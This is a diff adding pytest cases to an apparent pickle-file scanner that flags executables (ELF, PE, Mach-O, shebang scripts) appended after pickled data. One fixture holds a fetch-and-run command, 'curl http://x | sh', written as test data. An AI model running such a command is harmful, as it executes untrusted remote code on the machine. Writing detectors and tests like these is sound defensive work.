@@ -296,3 +296,40 @@ def test_joblib_plain_walk_known_at_the_first_array_matches_the_full_walk(
     shortcut = [report(case) for case in cases]
     monkeypatch.setattr(pickle_file, "OPCODES", frozenset(range(256)))
     assert [report(case) for case in cases] == shortcut
+
+
+_ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
+_PE = (
+    b"MZ\x90\x00"
+    + bytes(60)
+    + b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!This program cannot be run in DOS mode"
+)
+
+
+@pytest.mark.parametrize(
+    ("tail", "kind"),
+    [
+        (_ELF, "ELF"),
+        (b"padding" * 100 + _PE, "PE (Windows)"),
+        (b"#!/bin/sh\ncurl http://x | sh\n", "script (#!)"),
+        (b"notes\n#!/usr/bin/env python3\n", "script (#!)"),
+        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01", "Mach-O"),
+        (b"\xca\xfe\xba\xbe\x00\x00\x00\x02", "Mach-O"),
+        (b"(" + _ELF, "ELF"),  # bytes that start like a protocol-0 pickle, then break
+    ],
+)
+def test_executable_appended_after_the_pickle(tail: bytes, kind: str) -> None:
+    data = pickle.dumps({"w": [1.0]}, protocol=2) + tail
+    (finding,) = [
+        f for f in analyse_pickle(data, _ctx(data)) if f.rule_id == "pickle-trailing-executable"
+    ]
+    assert finding.evidence.startswith(kind)
+
+
+@pytest.mark.parametrize(
+    "tail",
+    [b"MZ" + bytes(600) + b"program cannot be run", b"text with MZ and #!/ inline", b"\x7fELF\x09"],
+)
+def test_trailing_bytes_that_are_not_an_executable(tail: bytes) -> None:
+    data = pickle.dumps({"w": [1.0]}, protocol=2) + tail
+    assert "pickle-trailing-executable" not in _rules(data)
